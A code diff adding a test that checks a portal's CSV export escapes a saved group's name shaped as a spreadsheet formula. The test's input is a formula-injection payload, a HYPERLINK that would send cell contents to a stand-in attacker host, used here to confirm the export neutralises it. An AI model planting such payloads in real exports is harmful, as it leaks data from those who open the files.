@@ -54,3 +54,23 @@ def test_a_line_break_inside_a_cell_never_starts_a_new_row():
     rows = [{"name": "Surgery\r=1+1", "town": "A\nB"}]
     text = csv_text(rows, ["name", "town"])
     assert list(csv.DictReader(io.StringIO(text, newline=""))) == rows
+
+
+def test_a_saved_group_named_as_a_formula_downloads_as_text(app):
+    """A user's own free text (a saved group's name) through the API's CSV download."""
+    from portal.models import User
+    from portal.queries.saved_groups import create_group
+
+    name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    user_id, secret = make_key(app)
+    with app.app_context():
+        group = create_group(db.session.get(User, user_id), name)
+    response = app.test_client().get(
+        "/api/v1/groups?format=csv", headers={"Authorization": f"Bearer {secret}"}
+    )
+    assert response.status_code == 200
+    assert response.mimetype == "text/csv"
+    assert response.get_data(as_text=True) == (
+        f'id,name,practices\r\n{group.id},"\'=HYPERLINK(""http://evil.example/?leak=""&A1,'
+        '""Click"")",0\r\n'
+    )
